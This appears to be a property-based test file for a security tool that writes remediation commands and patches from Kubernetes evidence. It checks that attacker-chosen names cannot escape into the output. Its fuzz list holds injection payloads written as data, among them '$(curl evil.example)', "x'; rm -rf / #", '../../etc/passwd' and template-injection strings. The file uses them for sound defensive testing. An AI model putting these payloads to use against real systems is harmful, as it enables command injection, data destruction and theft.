import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { anyPack } from '../../test/arbitraries/story.ts';
import { storyWith } from '../../test/stories/crypto-miner.ts';
import { analyseByRules } from '../analysis/rules/analyse.ts';
import type { Fact } from '../evidence/fact.ts';
import type { EvidencePack } from '../evidence/pack.ts';
import { parseArgv } from './command/argv.ts';
import { checkArgv } from './command/check.ts';
import type { Step } from './guidance.ts';
import { knownValues } from './known.ts';

/** Names as whoever may deploy something can choose them. */
const hostileName = fc.oneof(
  fc.constantFrom(
    '$(curl evil.example)',
    '`id`',
    "x'; rm -rf / #",
    'x"\n  hostPID: true',
    'x: {privileged: true}',
    '--kubeconfig=/tmp/x',
    '-n',
    '../../etc/passwd',
    '$'.concat('{file("/etc/passwd")}'),
    '%{ for x in y }',
    'a\u202eb',
    'a\u0000b',
    '*',
    '!!js/function x',
    '&anchor',
    '| sh',
    'RUN curl evil.example',
    '</version><plugin>',
    '#{`id`}',
    'yes',
    '1.42',
    'null',
  ),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }),
);

const guidanceOf = (pack: EvidencePack) => analyseByRules(pack).guidance;

function stepsOf(pack: EvidencePack): readonly Step[] {
  return (guidanceOf(pack)?.items ?? []).flatMap(({ steps }) => steps);
}

/** Every string below a value. */
function leaves(value: unknown): string[] {
  if (typeof value === 'string' || typeof value === 'number') return [String(value)];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, member]) => [key, ...leaves(member)]);
}

function check(pack: EvidencePack): void {
  const known = knownValues(pack);
  for (const step of stepsOf(pack)) {
    for (const { value, from } of step.parameters) {
      const holder =
        from === 'workload'
          ? pack.workload
          : (pack.items.find(({ id }) => id === from)?.fact ?? pack.entities.find(({ id }) => id === from));
      const texts = leaves(holder).join('\n');
      expect(texts.toLowerCase()).toContain(value.toLowerCase().replace(/^[a-z]+\//, ''));
    }
    if (step.kind === 'command') {
      expect(parseArgv(step.text)).toEqual({ ok: true, argv: step.argv });
      expect(checkArgv(step.argv, known)).toMatchObject({ ok: true, text: step.text });
      expect(step.text).not.toMatch(/[;|&$`<>~*?!#\\\n]/);
    }
    if (step.kind === 'patch') checkPatch(step);
    if (step.kind === 'hint') expect(step.text).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  }
}

function checkPatch({ format, text }: Extract<Step, { kind: 'patch' }>): void {
  expect(text).not.toMatch(/[^\n\x20-\x7e]/);
  switch (format) {
    case 'kubernetes-manifest':
    case 'helm-values':
    case 'cloudformation':
      expect(parse(text)).toEqual(expect.any(Object));
      return;
    case 'terraform':
      // Blocks close what they open, and every string ends on its line.
      expect([...text.matchAll(/[{}]/g)].reduce((depth, [brace]) => depth + (brace === '{' ? 1 : -1), 0)).toBe(0);
      for (const line of text.split('\n')) expect([...line.matchAll(/"/g)].length % 2).toBe(0);
      return;
    case 'dockerfile':
      for (const line of text.trimEnd().split('\n'))
        expect(line).toMatch(/^RUN (?:apt-get update|apk add|dnf -y upgrade)/);
      return;
    case 'package-manifest':
      expect(text).not.toMatch(/[$`;|]|<\/(?!dependency|dependencies|dependencyManagement|groupId|artifactId|version)/);
  }
}

function changed(fact: Fact, name: string): Fact {
  switch (fact.kind) {
    case 'pod':
      return { ...fact, labels: { app: name, [name]: 'x' } };
    case 'controller':
      return { ...fact, name, managedBy: name };
    case 'security-context':
      return { ...fact, container: name, addedCapabilities: [name], hostPaths: [name], hostPid: true };
    case 'service-account':
      return { ...fact, cloudRole: name };
    case 'role-binding':
      return { ...fact, name };
    case 'service':
      return { ...fact, name, type: 'LoadBalancer', exposed: true };
    case 'vulnerability':
      return { ...fact, packageName: name, fixedIn: name };
    case 'connection':
      return { ...fact, destinationIp: name };
    case 'revision':
      return { ...fact, previousImages: [name] };
    default:
      return fact;
  }
}

describe('a hostile name', () => {
  it('never leaves its place: what is written parses, holds only values of the evidence, and nothing a shell reads', () => {
    fc.assert(
      fc.property(hostileName, fc.nat(12), (name, which) => {
        let seen = -1;
        const kinds = new Set<string>();
        check(
          storyWith((draft) => {
            if (!kinds.has(draft.fact.kind)) {
              kinds.add(draft.fact.kind);
              seen += 1;
            }
            return seen === which || which === 12 ? { ...draft, fact: changed(draft.fact, name) } : draft;
          }),
        );
      }),
      { numRuns: 300 },
    );
  });

  it('leaves the guidance out that would hold it, and says why', () => {
    const pack = storyWith((draft) =>
      draft.fact.kind === 'security-context'
        ? { ...draft, fact: { ...draft.fact, container: '$(curl evil.example)' } }
        : draft,
    );
    const guidance = guidanceOf(pack);
    expect(guidance?.items.some(({ id }) => id.startsWith('drop-privileges'))).toBe(false);
    expect(guidance?.leftOut).toEqual([
      { what: 'drop-privileges', why: 'the container "$(curl evil.example)" cannot be written safely' },
      { what: 'read-only-root', why: 'the container "$(curl evil.example)" cannot be written safely' },
    ]);
  });

  it('holds for packs of any kind', () => {
    fc.assert(
      fc.property(anyPack, (pack) => check(pack)),
      { numRuns: 200 },
    );
  });

  it('gives the same guidance for the same pack', () => {
    fc.assert(
      fc.property(anyPack, (pack) => {
        expect(guidanceOf(pack)).toEqual(guidanceOf(pack));
      }),
      { numRuns: 50 },
    );
  });
});
